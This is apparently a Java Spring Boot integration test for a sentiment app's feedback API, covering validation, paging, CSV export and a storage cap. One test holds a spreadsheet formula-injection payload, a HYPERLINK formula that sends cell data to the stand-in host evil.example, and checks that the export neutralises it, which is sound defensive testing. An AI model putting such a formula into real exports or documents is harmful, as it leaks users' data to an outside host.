package com.example.sentiment.feedback;

import static org.assertj.core.api.Assertions.assertThat;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.get;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.post;

import com.example.sentiment.FullContext;
import com.example.sentiment.TinyModel;
import java.util.Map;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.MethodOrderer;
import org.junit.jupiter.api.Order;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestMethodOrder;
import org.springframework.boot.test.context.SpringBootTest;
import org.springframework.http.MediaType;
import org.springframework.mock.web.MockHttpServletResponse;
import tools.jackson.databind.JsonNode;

/** Corrections over HTTP: checked against the model's labels, listed newest first, exported as CSV. */
@SpringBootTest(properties = "sentiment.feedback.max-entries=" + FeedbackApiTest.MAX_ENTRIES)
@TestMethodOrder(MethodOrderer.OrderAnnotation.class) // the test that fills the store runs last
class FeedbackApiTest extends FullContext {

    static final int MAX_ENTRIES = 15;

    private String modelId;

    @BeforeEach
    void activateATinyModel() throws Exception {
        modelId = tinyModel(60, 1);
    }

    private MockHttpServletResponse send(Object body) throws Exception {
        return sendJson(post("/api/v1/feedback"), body);
    }

    private JsonNode created(Object body) throws Exception {
        MockHttpServletResponse response = send(body);
        assertThat(response.getStatus()).as(response.getContentAsString()).isEqualTo(201);
        return read(response);
    }

    private void assertBadField(MockHttpServletResponse response, String field) throws Exception {
        assertThat(response.getStatus()).as(response.getContentAsString()).isEqualTo(400);
        assertThat(response.getContentType()).isEqualTo("application/problem+json");
        assertThat(json.readTree(response.getContentAsString()).get("errors").get(0).get("field").asString()).isEqualTo(field);
    }

    @Test
    void aCorrectionIsStoredWithAnIdAndATime() throws Exception {
        MockHttpServletResponse response = send(Map.of("text", "Not bad at all", "label", "positive",
                "predictedLabel", "negative"));
        assertThat(response.getStatus()).isEqualTo(201);
        JsonNode stored = json.readTree(response.getContentAsString());
        assertThat(stored.get("id").asString()).matches("\\d{8}-\\d{6}-\\d{3}-[0-9a-f]{8}");
        assertThat(stored.get("createdAt").asString()).isNotBlank();
        assertThat(stored.get("modelId").asString()).as("the active model when none is named").isEqualTo(modelId);
        assertThat(stored.get("predictedLabel").asString()).isEqualTo("negative");
        assertThat(response.getHeader("Location")).isEqualTo("/api/v1/feedback/" + stored.get("id").asString());
        MockHttpServletResponse fetched = mvc.perform(get(response.getHeader("Location"))).andReturn().getResponse();
        assertThat(json.readTree(fetched.getContentAsString())).isEqualTo(stored);
        assertThat(mvc.perform(get("/api/v1/feedback/20200101-000000-000-00000000")).andReturn().getResponse()
                .getStatus()).isEqualTo(404);
    }

    @Test
    void aNewLabelWithAControlCharacterIs400() throws Exception {
        assertBadField(send(Map.of("text", "meh", "label", "neu\ntral", "newLabel", true)), "label");
        assertBadField(send(Map.of("text", "meh", "label", "neu\ttral", "newLabel", true)), "label");
        assertBadField(send(Map.of("text", "meh", "label", "neu\u2028tral", "newLabel", true)), "label");
    }

    @Test
    void aLabelTheModelDoesNotKnowIs400UnlessItIsNew() throws Exception {
        assertBadField(send(Map.of("text", "meh", "label", "neutral")), "label");
        assertBadField(send(Map.of("text", "meh", "label", "neutral", "modelId", modelId)), "label");
        assertThat(created(Map.of("text", "meh", "label", "neutral", "newLabel", true)).get("label").asString())
                .isEqualTo("neutral");
        assertThat(send(Map.of("text", "meh", "label", "positive", "modelId", "20200101-000000-0000")).getStatus())
                .isEqualTo(404);
        assertBadField(send(Map.of("label", "positive")), "text");
        assertBadField(send(Map.of("text", "  ", "label", "positive")), "text");
        assertBadField(send(Map.of("text", "x", "label", "")), "label");
        assertThat(send(Map.of("text", "x", "label", "positive", "extra", 1)).getStatus()).isEqualTo(400);
    }

    @Test
    void theListIsNewestFirstPagedAndFilteredAndTheExportUploadsAsItIs() throws Exception {
        String other = TinyModel.activate(modelService, 60, 1);
        try {
            created(Map.of("text", "first, \"quoted\"", "label", "positive", "modelId", modelId));
            created(Map.of("text", "second\nline", "label", "negative", "modelId", other));
            created(Map.of("text", "third", "label", "negative", "modelId", other));
        } finally {
            modelService.activate(modelId);
        }
        JsonNode page = json.readTree(mvc.perform(get("/api/v1/feedback").param("modelId", other).param("size", "1"))
                .andReturn().getResponse().getContentAsString());
        assertThat(page.get("total").asLong()).isEqualTo(2);
        assertThat(page.get("items")).hasSize(1);
        assertThat(page.get("items").get(0).get("text").asString()).isEqualTo("third");
        JsonNode second = json.readTree(mvc.perform(get("/api/v1/feedback").param("modelId", other)
                .param("size", "1").param("page", "1")).andReturn().getResponse().getContentAsString());
        assertThat(second.get("items").get(0).get("text").asString()).isEqualTo("second\nline");
        JsonNode all = json.readTree(mvc.perform(get("/api/v1/feedback")).andReturn().getResponse().getContentAsString());
        String newest = all.get("items").get(0).get("createdAt").asString();
        String oldest = all.get("items").get(all.get("items").size() - 1).get("createdAt").asString();
        assertThat(newest.compareTo(oldest)).isGreaterThanOrEqualTo(0);
        assertBadField(mvc.perform(get("/api/v1/feedback").param("size", "0")).andReturn().getResponse(), "size");
        assertBadField(mvc.perform(get("/api/v1/feedback").param("page", "-1")).andReturn().getResponse(), "page");

        MockHttpServletResponse export = mvc.perform(get("/api/v1/feedback/export").param("modelId", other))
                .andReturn().getResponse();
        assertThat(export.getContentType()).startsWith("text/csv");
        assertThat(export.getHeader("Content-Length")).as("written as it is read, so its length is not known up front")
                .isNull();
        assertThat(export.getContentAsString()).isEqualTo("text,label\r\n\"second\nline\",negative\r\nthird,negative\r\n");
        assertThat(mvc.perform(get("/api/v1/feedback/export")).andReturn().getResponse().getContentAsString())
                .contains("\"first, \"\"quoted\"\"\",positive\r\n");
    }

    /** The export neutralises a formula (OWASP); the stored correction, which training reads, keeps its text. */
    @Test
    void aFormulaIsNeutralisedInTheExportOnlyAndTheStoredTextStaysAsGiven() throws Exception {
        String formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")";
        JsonNode stored = created(Map.of("text", formula, "label", "@risk", "newLabel", true));
        assertThat(stored.get("text").asString()).isEqualTo(formula);
        JsonNode fetched = json.readTree(mvc.perform(get("/api/v1/feedback/" + stored.get("id").asString()))
                .andReturn().getResponse().getContentAsString());
        assertThat(fetched.get("text").asString()).isEqualTo(formula);
        assertThat(mvc.perform(get("/api/v1/feedback/export")).andReturn().getResponse().getContentAsString())
                .contains("\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Click\"\")\",\"'@risk\"\r\n")
                .doesNotContain("\r\n=HYPERLINK");
    }

    /** U+0000 cannot be stored by PostgreSQL; every backend answers it with a 400, not a 500 from the database. */
    @Test
    void aNulCharacterIsA400ProblemOnTheField() throws Exception {
        assertBadField(send(Map.of("text", "nul \u0000 inside", "label", "positive")), "text");
        assertBadField(send(Map.of("text", "fine", "label", "x\u0000", "newLabel", true)), "label");
        MockHttpServletResponse surrogate = mvc.perform(post("/api/v1/feedback").contentType(MediaType.APPLICATION_JSON)
                .content("{\"text\":\"half \\ud83d a pair\",\"label\":\"positive\"}")).andReturn().getResponse();
        assertBadField(surrogate, "text");
    }

    /** Past sentiment.feedback.max-entries a correction is a 413 problem, and nothing more is stored. */
    @Test
    @Order(Integer.MAX_VALUE)
    void pastTheCapACorrectionIsA413ProblemAndNothingIsStored() throws Exception {
        MockHttpServletResponse response = null;
        for (int i = 0; i <= MAX_ENTRIES; i++) {
            response = send(Map.of("text", "filling " + i, "label", "positive"));
            if (response.getStatus() != 201) {
                break;
            }
        }
        assertThat(response.getStatus()).as(response.getContentAsString()).isEqualTo(413);
        assertThat(response.getContentType()).isEqualTo("application/problem+json");
        JsonNode problem = json.readTree(response.getContentAsString());
        assertThat(problem.get("type").asString()).endsWith("/problems/feedback-store-full");
        assertThat(problem.get("detail").asString()).contains("sentiment.feedback.max-entries");
        JsonNode list = json.readTree(mvc.perform(get("/api/v1/feedback")).andReturn().getResponse().getContentAsString());
        assertThat(list.get("total").asLong()).isEqualTo(MAX_ENTRIES);
    }
}
